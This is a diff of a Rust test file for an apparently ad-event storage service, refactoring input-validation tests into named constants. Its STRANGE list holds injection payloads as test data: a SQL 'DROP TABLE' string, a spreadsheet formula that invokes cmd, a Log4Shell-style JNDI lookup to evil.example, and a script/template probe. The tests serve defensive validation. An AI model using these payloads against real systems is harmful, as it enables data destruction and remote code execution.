@@ -61,6 +61,23 @@ fn a_number_that_is_no_id_is_refused() {
     subject.stored_only_what_was_taken();
 }
 
+/// Texts that mean something elsewhere and nothing here.
+const STRANGE: &[&str] = &[
+    "'; DROP TABLE events; --",
+    "%_\\",
+    "\\N",
+    "\\.",
+    "a\\tb",
+    "=cmd()|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\u{202e}rtl\u{200b}\u{feff}",
+    "👩‍👩‍👧 \u{10ffff}\u{fffe}",
+    "${jndi:ldap://evil.example/a}",
+    "{{7*7}}<script>alert(1)</script>",
+    "null",
+    " ",
+];
+
 #[test]
 fn a_text_is_refused_or_stored_to_the_byte() {
     let mut subject = Subject::new("texts");
@@ -91,22 +108,7 @@ fn a_text_is_refused_or_stored_to_the_byte() {
             subject.rejects(&what, &with(field, control), "control_character");
         }
     }
-    let texts = [
-        "'; DROP TABLE events; --",
-        "%_\\",
-        "\\N",
-        "\\.",
-        "a\\tb",
-        "=cmd()|' /C calc'!A0",
-        "@SUM(1+1)",
-        "\u{202e}rtl\u{200b}\u{feff}",
-        "👩‍👩‍👧 \u{10ffff}\u{fffe}",
-        "${jndi:ldap://evil.example/a}",
-        "{{7*7}}<script>alert(1)</script>",
-        "null",
-        " ",
-    ];
-    for text in texts {
+    for text in STRANGE.iter().copied() {
         let id = subject.takes(text, &with("placement", text));
         let Some(id) = id.first() else { continue };
         let query = format!(
@@ -173,7 +175,12 @@ fn an_event_id_is_one_of_the_promised_kinds_or_refused() {
             "invalid_impression_id",
         );
     }
+    subject.stored_only_what_was_taken();
+}
 
+#[test]
+fn every_spelling_of_a_uuid_is_the_same_event() {
+    let mut subject = Subject::new("spellings");
     let at = from_now(-60);
     let mut named = json!({"ad_id": 1, "kind": "click", "occurred_at": at});
     let mut ids = Vec::new();
@@ -193,26 +200,29 @@ fn an_event_id_is_one_of_the_promised_kinds_or_refused() {
     subject.stored_only_what_was_taken();
 }
 
+/// Times that no event can have, and the reason.
+const NO_TIMES: [(&str, &str); 15] = [
+    ("1969-12-31T23:59:59.999Z", "invalid_occurred_at"),
+    ("10000-01-01T00:00:00Z", "invalid_occurred_at"),
+    ("2026-11-22T05:00:00", "invalid_occurred_at"),
+    ("2026-11-22", "invalid_occurred_at"),
+    ("22.11.2026 05:00", "invalid_occurred_at"),
+    ("2026-02-30T00:00:00Z", "invalid_occurred_at"),
+    ("2026-11-22T24:00:00Z", "invalid_occurred_at"),
+    ("2026-11-22T05:00:61Z", "invalid_occurred_at"),
+    ("2026-11-22T05:00:00+24:00", "invalid_occurred_at"),
+    ("1766400000", "invalid_occurred_at"),
+    ("now", "invalid_occurred_at"),
+    ("", "invalid_occurred_at"),
+    ("1970-01-01T00:00:00Z", "too_old"),
+    ("2016-12-31T23:59:60Z", "too_old"),
+    ("9999-12-31T23:59:59.999Z", "in_future"),
+];
+
 #[test]
 fn a_time_is_within_the_bounds_or_refused_but_never_moved() {
     let mut subject = Subject::new("times");
-    for (time, code) in [
-        ("1969-12-31T23:59:59.999Z", "invalid_occurred_at"),
-        ("10000-01-01T00:00:00Z", "invalid_occurred_at"),
-        ("2026-11-22T05:00:00", "invalid_occurred_at"),
-        ("2026-11-22", "invalid_occurred_at"),
-        ("22.11.2026 05:00", "invalid_occurred_at"),
-        ("2026-02-30T00:00:00Z", "invalid_occurred_at"),
-        ("2026-11-22T24:00:00Z", "invalid_occurred_at"),
-        ("2026-11-22T05:00:61Z", "invalid_occurred_at"),
-        ("2026-11-22T05:00:00+24:00", "invalid_occurred_at"),
-        ("1766400000", "invalid_occurred_at"),
-        ("now", "invalid_occurred_at"),
-        ("", "invalid_occurred_at"),
-        ("1970-01-01T00:00:00Z", "too_old"),
-        ("2016-12-31T23:59:60Z", "too_old"),
-        ("9999-12-31T23:59:59.999Z", "in_future"),
-    ] {
+    for (time, code) in NO_TIMES {
         subject.rejects(time, &with("occurred_at", time), code);
     }
     subject.rejects(
